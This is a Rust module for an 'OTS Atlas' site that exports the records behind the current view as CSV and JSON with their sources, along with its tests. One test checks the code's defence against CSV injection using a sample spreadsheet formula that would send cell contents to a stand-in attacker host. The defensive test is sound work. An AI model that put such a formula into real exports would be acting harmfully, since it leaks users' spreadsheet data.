//! "Download the data shown": the records behind the current view as CSV and JSON, each
//! row with its sources, so what a reader takes away can be checked.

use crate::data::{Dataset, Quote, Source, Status, publisher_of};
use crate::quote_filter::filtered_quotes;
use crate::url_state::MapState;
use crate::world::CountryCode;

/// One exported record, flattened.
#[derive(Clone, Debug, PartialEq)]
pub struct ExportRow {
    /// `country`, `event`, `quote` or `figure`.
    pub kind: &'static str,
    /// The record's id (the country code for countries).
    pub id: String,
    /// The country the row is about (host for figures).
    pub country: String,
    /// A date or year, as the data gives it.
    pub date: String,
    /// Title, quote text, status line or figure.
    pub text: String,
    /// Place, speaker or origin.
    pub detail: String,
    /// Why the record is uncertain, if it is.
    pub uncertainty: String,
    /// Source URLs, space-separated.
    pub sources: String,
    /// The sources' publishers, in the same order, separated by "; ".
    pub publishers: String,
}

/// The rows behind what a view shows: in the quotes view, the quotes that pass its
/// filters; elsewhere [`rows_for`] the selected country (or the OTS).
pub fn rows_for_view(data: &Dataset, state: &MapState) -> Vec<ExportRow> {
    match &state.quotes {
        Some(filter) => filtered_quotes(data, filter, state.country)
            .into_iter()
            .map(|q| quote_row(data, q, q.speaker_country.or(state.country)))
            .collect(),
        None => rows_for(data, state.country),
    }
}

/// One quote as a row; `country` is the country the row is filed under.
fn quote_row(data: &Dataset, q: &Quote, country: Option<CountryCode>) -> ExportRow {
    ExportRow {
        kind: "quote",
        id: q.id.clone(),
        country: country.map(|c| c.to_string()).unwrap_or_default(),
        date: q.date.compact(),
        text: q.text.clone(),
        detail: format!("{}, {}", q.speaker, q.role),
        uncertainty: q.uncertainty.clone().unwrap_or_default(),
        sources: join_sources(q.sources.iter().map(|s| s.url())),
        publishers: publisher_names(data, &q.sources),
    }
}

/// The publishers of some sources, by the registry (the host where it has none).
fn publisher_names(data: &Dataset, sources: &[Source]) -> String {
    let names: Vec<&str> = sources
        .iter()
        .map(|s| publisher_of(data.publishers(), s).map_or(s.host(), |p| p.name.as_str()))
        .collect();
    names.join("; ")
}

/// The rows behind a view: the selected country's record, events, quotes and figures; or,
/// with nothing selected, the members and observers and every figure.
pub fn rows_for(data: &Dataset, selected: Option<CountryCode>) -> Vec<ExportRow> {
    let mut rows = Vec::new();
    let countries: Vec<CountryCode> = match selected {
        Some(code) => vec![code],
        None => data.ots_countries().iter().map(|c| c.code).collect(),
    };
    for &code in &countries {
        if let Some(c) = data.country(code) {
            let (text, date) = match &c.membership {
                Some(m) => (
                    match m.status {
                        Status::Member => "OTS member",
                        Status::Observer => "OTS observer",
                    }
                    .to_owned(),
                    m.since.compact(),
                ),
                None => (String::new(), String::new()),
            };
            rows.push(ExportRow {
                kind: "country",
                id: code.to_string(),
                country: code.to_string(),
                date,
                text,
                detail: c
                    .capital
                    .as_ref()
                    .map(|p| p.name.clone())
                    .unwrap_or_default(),
                uncertainty: c
                    .membership
                    .as_ref()
                    .and_then(|m| m.uncertainty.clone())
                    .unwrap_or_default(),
                sources: join_sources(c.sources.iter().map(|s| s.url())),
                publishers: publisher_names(data, &c.sources),
            });
        }
    }
    if let Some(code) = selected {
        for e in data.events_for(code) {
            rows.push(ExportRow {
                kind: "event",
                id: e.id.clone(),
                country: e.place.country.to_string(),
                date: e.date.compact(),
                text: e.title.clone(),
                detail: e.place.name.clone(),
                uncertainty: e.uncertainty.clone().unwrap_or_default(),
                sources: join_sources(e.sources.iter().map(|s| s.url())),
                publishers: publisher_names(data, &e.sources),
            });
        }
    }
    let quotes = match selected {
        Some(code) => data.quotes_for(code),
        None => data.quotes().iter().collect(),
    };
    for q in quotes {
        rows.push(quote_row(data, q, selected.or(q.speaker_country)));
    }
    let figures = match selected {
        Some(code) => {
            let mut list = data.figures_from(code);
            list.extend(
                data.figures_in(code)
                    .into_iter()
                    .filter(|f| f.origin != code),
            );
            list
        }
        None => data.figures().iter().collect(),
    };
    for f in figures {
        rows.push(ExportRow {
            kind: "figure",
            id: f.id.clone(),
            country: f.host.to_string(),
            date: f.year.map(|y| y.to_string()).unwrap_or_default(),
            text: f.amount.to_string(),
            detail: format!("from {} ({})", f.origin, f.basis),
            uncertainty: f.uncertainty.clone().unwrap_or_default(),
            sources: join_sources(f.sources.iter().map(|s| s.url())),
            publishers: publisher_names(data, &f.sources),
        });
    }
    rows
}

fn join_sources<'a>(urls: impl Iterator<Item = &'a str>) -> String {
    urls.collect::<Vec<_>>().join(" ")
}

/// The column names, in order.
pub const CSV_HEADER: [&str; 9] = [
    "kind",
    "id",
    "country",
    "date",
    "text",
    "detail",
    "uncertainty",
    "sources",
    "publishers",
];

/// RFC 4180 CSV with a header line and CRLF line ends.
pub fn to_csv(rows: &[ExportRow]) -> String {
    let mut out = CSV_HEADER.join(",");
    out.push_str("\r\n");
    for r in rows {
        let fields = [
            r.kind,
            &r.id,
            &r.country,
            &r.date,
            &r.text,
            &r.detail,
            &r.uncertainty,
            &r.sources,
            &r.publishers,
        ];
        let line: Vec<String> = fields.iter().map(|f| csv_field(f)).collect();
        out.push_str(&line.join(","));
        out.push_str("\r\n");
    }
    out
}

/// One CSV field, quoted when it must be. A text that a spreadsheet would read as a
/// formula (starting with `=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading `'`,
/// the usual defence against CSV injection.
fn csv_field(text: &str) -> String {
    let text = &if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}")
    } else {
        text.to_owned()
    };
    if text.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text.to_owned()
    }
}

/// A JSON document: where it comes from (the permalink) plus the rows with sources as lists,
/// indented by two spaces. Written by hand: serde_json's serializer would add several KB
/// to the Wasm for this one download.
pub fn to_json(rows: &[ExportRow], permalink: &str) -> String {
    let mut out = String::from("{\n  \"source\": \"OTS Atlas\",\n  \"permalink\": ");
    json_string(&mut out, permalink);
    out.push_str(",\n  \"records\": [");
    for (i, r) in rows.iter().enumerate() {
        out.push_str(if i == 0 { "\n    {" } else { ",\n    {" });
        for (key, value) in [
            ("kind", r.kind),
            ("id", &r.id),
            ("country", &r.country),
            ("date", &r.date),
            ("text", &r.text),
            ("detail", &r.detail),
        ] {
            out.push_str("\n      \"");
            out.push_str(key);
            out.push_str("\": ");
            json_string(&mut out, value);
            out.push(',');
        }
        out.push_str("\n      \"uncertainty\": ");
        if r.uncertainty.is_empty() {
            out.push_str("null");
        } else {
            json_string(&mut out, &r.uncertainty);
        }
        out.push_str(",\n      \"sources\": [");
        for (j, url) in r.sources.split(' ').filter(|s| !s.is_empty()).enumerate() {
            out.push_str(if j == 0 { "\n        " } else { ",\n        " });
            json_string(&mut out, url);
        }
        out.push_str("\n      ],\n      \"publishers\": [");
        for (j, name) in r
            .publishers
            .split("; ")
            .filter(|s| !s.is_empty())
            .enumerate()
        {
            out.push_str(if j == 0 { "\n        " } else { ",\n        " });
            json_string(&mut out, name);
        }
        out.push_str("\n      ]\n    }");
    }
    out.push_str(if rows.is_empty() { "]\n}" } else { "\n  ]\n}" });
    out
}

/// Writes `text` as a JSON string literal.
fn json_string(out: &mut String, text: &str) {
    out.push('"');
    for c in text.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if u32::from(c) < 0x20 => {
                const HEX: &[u8; 16] = b"0123456789abcdef";
                let n = u32::from(c) as usize;
                out.push_str("\\u00");
                out.push(char::from(HEX[n >> 4]));
                out.push(char::from(HEX[n & 15]));
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::*;
    use crate::test_support::real_dataset;

    #[test]
    fn the_azerbaijan_export_holds_its_record_events_quotes_and_figures_with_sources() {
        let data = real_dataset();
        let rows = rows_for(&data, Some(CountryCode::from_static("AZE")));
        for kind in ["country", "event", "quote", "figure"] {
            assert!(rows.iter().any(|r| r.kind == kind), "no {kind} rows");
        }
        assert!(
            rows.iter().all(|r| r.sources.starts_with("http")),
            "every row has a source"
        );
        assert!(rows.iter().any(|r| r.text.contains("natural bridges")));
    }

    /// A country's export lists the figures of its people abroad and of the communities
    /// it hosts, each once: Türkiye's people in Germany appear in Germany's export.
    #[test]
    fn a_country_export_holds_the_figures_it_hosts_and_sends_each_once() {
        let data = real_dataset();
        for code in ["DEU", "TUR", "KAZ"] {
            let code = CountryCode::from_static(code);
            let mut expected: Vec<&str> = data
                .figures()
                .iter()
                .filter(|f| f.host == code || f.origin == code)
                .map(|f| f.id.as_str())
                .collect();
            expected.sort_unstable();
            let rows = rows_for(&data, Some(code));
            let mut got: Vec<&str> = rows
                .iter()
                .filter(|r| r.kind == "figure")
                .map(|r| r.id.as_str())
                .collect();
            got.sort_unstable();
            assert!(!expected.is_empty(), "{code} has figures in the data");
            assert_eq!(got, expected, "{code}");
        }
    }

    #[test]
    fn csv_quotes_fields_with_commas_and_quotes() {
        let row = ExportRow {
            kind: "quote",
            id: "q".into(),
            country: "AZE".into(),
            date: "2025".into(),
            text: "He said \"yes\", twice".into(),
            detail: "a".into(),
            uncertainty: String::new(),
            sources: "https://x.example".into(),
            publishers: String::new(),
        };
        let csv = to_csv(&[row]);
        assert_eq!(
            csv,
            "kind,id,country,date,text,detail,uncertainty,sources,publishers\r\nquote,q,AZE,2025,\"He said \"\"yes\"\", twice\",a,,https://x.example,\r\n"
        );
    }

    #[test]
    fn the_json_export_parses_and_lists_sources() {
        let data = real_dataset();
        let rows = rows_for(&data, None);
        let json: Value =
            serde_json::from_str(&to_json(&rows, "https://a.example/")).expect("valid JSON");
        let records = json["records"].as_array().expect("records");
        assert_eq!(records.len(), rows.len());
        assert!(
            records
                .iter()
                .all(|r| r["sources"].as_array().is_some_and(|s| !s.is_empty()))
        );
        assert_eq!(json["permalink"], "https://a.example/");
    }

    /// The hand-written JSON reads back as the document serde_json would write, escapes
    /// included.
    #[test]
    fn the_json_export_is_what_serde_json_writes() {
        let awkward = ExportRow {
            kind: "quote",
            id: "q-1".into(),
            country: "AZE".into(),
            date: "2025-05".into(),
            text: "He said \"yes\" \\ no\nthen\ttabbed \u{1} and “quoted” Əliyev".into(),
            detail: "a\rb".into(),
            uncertainty: String::new(),
            sources: "https://x.example/a https://y.example/b".into(),
            publishers: String::new(),
        };
        let mut rows = rows_for(&real_dataset(), Some(CountryCode::from_static("TUR")));
        rows.push(awkward);
        for rows in [&rows[..], &[]] {
            let records: Vec<Value> = rows
                .iter()
                .map(|r| {
                    json!({
                        "kind": r.kind,
                        "id": r.id,
                        "country": r.country,
                        "date": r.date,
                        "text": r.text,
                        "detail": r.detail,
                        "uncertainty": if r.uncertainty.is_empty() { Value::Null } else { Value::from(r.uncertainty.clone()) },
                        "sources": r.sources.split(' ').filter(|s| !s.is_empty()).collect::<Vec<_>>(),
                        "publishers": r.publishers.split("; ").filter(|s| !s.is_empty()).collect::<Vec<_>>(),
                    })
                })
                .collect();
            let doc = json!({ "source": "OTS Atlas", "permalink": "https://a.example/?x=\"1\"", "records": records });
            let written = to_json(rows, "https://a.example/?x=\"1\"");
            let parsed: Value = serde_json::from_str(&written).expect("valid JSON");
            assert_eq!(parsed, doc);
            // Indented by two spaces, keys in the order of the columns.
            assert!(written.starts_with("{\n  \"source\": \"OTS Atlas\",\n  \"permalink\": "));
            if !rows.is_empty() {
                // Only what JSON requires is escaped: spaces, quotes' curly forms and
                // letters stay as they are.
                assert!(written.contains(
                    r#""text": "He said \"yes\" \\ no\nthen\ttabbed \u0001 and “quoted” Əliyev""#
                ));
                assert!(written.contains("\n    {\n      \"kind\": "));
                assert!(written.find("\"kind\"") < written.find("\"sources\": ["));
            }
        }
    }
}

#[cfg(test)]
mod view_tests {
    use super::*;
    use crate::test_support::real_dataset;

    #[test]
    fn the_quotes_view_downloads_the_quotes_it_shows_with_their_publishers() {
        let data = real_dataset();
        let (state, _) = MapState::from_query("view=quotes&country=HUN&theme=diaspora", 2026);
        let rows = rows_for_view(&data, &state);
        let (filter, country) = (state.quotes.clone().unwrap_or_default(), state.country);
        assert_eq!(rows.len(), filtered_quotes(&data, &filter, country).len());
        assert!(rows.iter().all(|r| r.kind == "quote"));
        let (all, _) = MapState::from_query("view=quotes", 2026);
        let rows = rows_for_view(&data, &all);
        assert_eq!(rows.len(), data.quotes().len());
        // Every source is named by its publisher, in the same order as the addresses.
        for r in &rows {
            assert_eq!(
                r.publishers.split("; ").count(),
                r.sources.split(' ').count(),
                "{}",
                r.id
            );
        }
        let csv = to_csv(&rows);
        assert!(
            csv.starts_with("kind,id,country,date,text,detail,uncertainty,sources,publishers\r\n")
        );
        assert!(csv.contains("Türkiye Today"));
    }

    #[test]
    fn formulas_are_not_written_as_formulas() {
        assert_eq!(
            csv_field("=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")"),
            "\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Open\"\")\""
        );
        for start in ["+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
            assert!(
                csv_field(start).trim_start_matches('"').starts_with('\''),
                "{start:?}"
            );
        }
        assert_eq!(csv_field("2025-12"), "2025-12");
        assert_eq!(csv_field("Ankara"), "Ankara");
    }

    #[test]
    fn the_default_download_includes_every_quote() {
        let data = real_dataset();
        let rows = rows_for(&data, None);
        assert_eq!(
            rows.iter().filter(|r| r.kind == "quote").count(),
            data.quotes().len()
        );
    }
}
